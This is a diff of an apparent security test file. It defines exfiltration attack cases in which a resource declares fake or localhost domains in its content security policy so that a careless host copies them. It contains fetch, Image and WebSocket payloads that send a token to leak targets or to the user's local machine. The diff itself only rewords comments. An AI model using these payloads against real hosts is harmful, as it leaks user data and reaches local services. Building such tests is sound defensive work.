@@ -1,5 +1,5 @@
-// Telling another site something by declaring domains that are none: a resource names what it needs, and a careless host pastes
-// that into its policy.
+// Exfiltration by declared domains that are not domains: a resource declares what it needs, and a careless host copies that into its
+// policy.
 import type { Attack } from '../attack.ts';
 import { leak, ofClass } from './define.ts';
 
@@ -8,7 +8,7 @@ const attack = ofClass('exfiltration', 'network');
 const FETCH = `await fetch(${leak('declared')}, { mode: 'no-cors' }).catch(() => {}); await A.wait(500)`;
 const IMAGE = `new Image().src = ${leak('declared-image')}; await A.wait(1000)`;
 
-/** Asks a service of the person's own machine. */
+/** Requests a service of the user's own machine. */
 const askMachine = (scheme: string, host: string): string => `
   const service = '${scheme}://${host}:' + A.localPort + '/' + A.token;
   new Image().src = service + '/image';
@@ -64,7 +64,7 @@ export const DECLARED: readonly Attack[] = [
     ui: { domain: 'http://{{name}}', csp: { connectDomains: ["'self'"] } },
     script: FETCH,
   }),
-  attack('d13', 'declares a service of the person’s own machine, as a remote server', {
+  attack('d13', 'declares a service of the user’s own machine, as a remote server', {
     remote: true,
     ui: {
       csp: { connectDomains: ['http://localhost:{{localPort}}'], resourceDomains: ['http://localhost:{{localPort}}'] },
@@ -76,7 +76,7 @@ export const DECLARED: readonly Attack[] = [
     ui: { csp: { connectDomains: ['http://127.0.0.1:{{localPort}}', 'ws://localhost:{{localPort}}'] } },
     script: `${askMachine('http', '127.0.0.1')}; new WebSocket('ws://localhost:' + A.localPort + '/' + A.token); await A.wait(700)`,
   }),
-  attack('d15', 'shows a service of the person’s own machine as its page, as a remote server', {
+  attack('d15', 'shows a service of the user’s own machine as its page, as a remote server', {
     remote: true,
     external: true,
     refused: true,
